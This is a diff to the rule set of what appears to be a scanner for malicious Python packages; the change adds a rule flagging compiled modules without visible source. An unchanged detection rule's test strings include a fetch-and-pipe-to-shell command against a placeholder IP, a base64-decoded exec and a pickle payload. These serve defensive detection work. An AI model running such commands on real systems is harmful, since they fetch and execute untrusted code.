@@ -4,7 +4,7 @@
 import type { PackedAllowlist } from "./allowed.ts";
 
 /** SHA-256 of the files in rules/. */
-export const RULES_HASH: string = "0fb89b7da92eaca5646f2b69e566caf4c0187986dbe3fe979eb180fd8424ceb8";
+export const RULES_HASH: string = "0bdfbc33479d3169c1f7d095ebeda99cf3453e629153f2f76871884246d0f38c";
 
 /** All rules, as JSON. */
 export const RULES_JSON: string = `[
@@ -187,6 +187,7 @@ export const RULES_JSON: string = `[
 {"id":"python-attack","format":"python","kind":"fact","severity":"critical","safety":"dangerous","title":"A module runs code that it decodes or fetches first","effect":"runs code or commands that are hidden or come from elsewhere","why":"Packages that steal credentials look like this: what runs is encoded, or fetched at that moment, so that nobody reads it.","fix":"Do not import or install this. If it was already, treat the machine as compromised and change its credentials.","references":["CWE-506","CWE-494"],"hit":["source python-archive builtins.exec exec(base64.b64decode('cHJpbnQ='))","source python-archive os.system os.system('curl http://192.0.2.1/x | sh')","source python-archive pickle.loads pickle.loads(b'cos')"],"miss":["source python-archive builtins.exec exec(source, namespace)","source python-archive os.system os.system('echo hi')","source python-archive pickle.loads pickle.loads(data)"]},
 {"id":"python-startup-code","format":"python","kind":"anomaly","severity":"medium","safety":"suspicious","title":"Installed, this runs whenever Python starts","why":"Nothing has to import it: every program of that Python runs it. Attackers install such files to stay.","fix":"Read what it runs before you install it.","references":["CWE-506","CWE-829"]},
 {"id":"python-startup-known","format":"python","kind":"anomaly","severity":"info","safety":"innocuous","title":"The line that setuptools has Python run when it starts","why":"It asks an environment variable whether setuptools shall stand in for distutils, and does nothing else.","fix":"Nothing to do."},
+{"id":"python-compiled","format":"python","kind":"anomaly","severity":"medium","safety":"suspicious","title":"A compiled Python module runs whose source nobody sees","why":"Python imports compiled modules that lie where their source would, and those that say that their source need not be compared. What they do is not read here.","fix":"Use the module's source, or compile it yourself.","references":["CWE-506"]},
 {"id":"python-install-code","format":"python","kind":"anomaly","severity":"info","safety":"innocuous","title":"A source distribution runs code when it is installed","why":"That is how they are built. What the script calls is judged like that of any other module.","fix":"Install wheels where there are some."},
 {"id":"python-encoding","format":"python","kind":"anomaly","severity":"medium","safety":"suspicious","title":"Python source is written in an encoding that hides what it says","why":"Codecs such as unicode_escape and utf_7 turn comments into code, and no editor shows it.","fix":"Do not import the module before you have seen it decoded.","references":["CWE-506"]},
 {"id":"python-unread","format":"python","kind":"anomaly","severity":"low","safety":"suspicious","title":"A Python module could not be read to its end","why":"What cannot be read cannot be judged.","fix":"Read the module yourself before you import it."},
